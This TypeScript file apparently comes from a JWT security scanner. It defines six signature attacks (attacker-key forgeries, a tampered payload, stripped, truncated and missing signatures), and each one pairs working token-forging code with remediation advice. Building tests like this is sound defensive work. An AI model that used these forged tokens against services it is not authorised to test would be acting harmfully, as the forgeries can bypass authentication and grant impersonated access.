import { randomBytes } from 'node:crypto';
import { base64url } from 'jose';
import { attackerKid, segment, signRs256, withoutKeyHints } from './token-parts';
import type { Attack, AttackInput } from './types';

const VERIFY_FIX =
  "verify every token's RS256 signature with the issuer's published key before reading a claim (an API Gateway JWT authorizer, or a library such as jose)";

/** The genuine header and payload, with the signature segment as given (made-up ones without a token). */
function genuineWith(signature: (genuine: string) => string, { token }: AttackInput): [string, string, string] {
  const [header, payload, genuine] = token.parts ?? [segment({ ...token.header, alg: 'RS256' }), segment(token.claims), base64url.encode(randomBytes(256))];
  return [header, payload, signature(genuine)];
}

/** Forged, tampered and mangled signatures. */
export const SIGNATURE_ATTACKS = [
  {
    code: 'forged-signature-known-kid',
    family: 'signature',
    title: 'genuine claims signed by an attacker key, under the genuine kid',
    reference: 'jwt_tool playbook; Burp JWT Editor (sign with own key)',
    acceptance: 'accepted the real claims signed by an attacker key under the real kid: signatures are not verified',
    fix: VERIFY_FIX,
    craft: ({ token, attacker }) => signRs256(withoutKeyHints(token.header), token.claims, attacker.privateKey),
  },
  {
    code: 'forged-signature-new-kid',
    family: 'signature',
    title: 'genuine claims signed by an attacker key, under a kid the issuer never published',
    reference: 'jwt_tool playbook; Burp JWT Editor (sign with own key)',
    acceptance: 'accepted a token whose kid names no trusted key: unknown keys are trusted or skipped',
    fix: "refuse tokens whose kid names no key in the issuer's JWKS; never fall back to an unverified path",
    craft: ({ token, attacker }) => signRs256({ ...withoutKeyHints(token.header), kid: attackerKid() }, token.claims, attacker.privateKey),
  },
  {
    code: 'tampered-payload',
    family: 'signature',
    title: 'changed claims under the genuine signature',
    reference: 'jwt_tool -T (tamper); PortSwigger lab "unverified signature"',
    acceptance:
      'accepted a changed payload under the original signature: the signature is not checked against the payload (or a verified signature is cached and reused)',
    fix: VERIFY_FIX,
    craft: (input) => {
      const { token, nowSeconds } = input;
      const [header, , signature] = genuineWith((s) => s, input);
      return `${header}.${segment({ ...token.claims, sub: `${String(token.claims['sub'] ?? 'subject')}-tampered`, exp: nowSeconds + 3600 })}.${signature}`;
    },
  },
  {
    code: 'signature-stripped',
    family: 'signature',
    title: 'genuine header and payload with an empty signature (h.p.)',
    reference: 'jwt_tool playbook (null signature); CVE-2020-28042 (servicestack)',
    acceptance: 'accepted a token with its signature removed: an empty signature is treated as valid',
    fix: VERIFY_FIX,
    craft: (input) => genuineWith(() => '', input).join('.'),
  },
  {
    code: 'signature-truncated',
    family: 'signature',
    title: 'genuine token with the last characters of its signature removed',
    reference: 'jwt_tool playbook; signature length checks',
    acceptance: 'accepted a truncated signature: signatures of the wrong length are not verified (or only compared in part)',
    fix: VERIFY_FIX,
    craft: (input) => genuineWith((s) => s.slice(0, Math.max(0, s.length - 12)), input).join('.'),
  },
  {
    code: 'signature-segment-missing',
    family: 'signature',
    title: 'two segments only (h.p), no signature segment',
    reference: 'RFC 7515 §7.1 (compact serialization has three parts); jwt_tool playbook',
    acceptance: 'accepted a two-segment token: a missing signature is read as an unsigned token',
    fix: 'accept only the three-segment JWS compact serialization, and verify its signature',
    craft: (input) =>
      genuineWith(() => '', input)
        .slice(0, 2)
        .join('.'),
  },
] as const satisfies readonly Attack[];
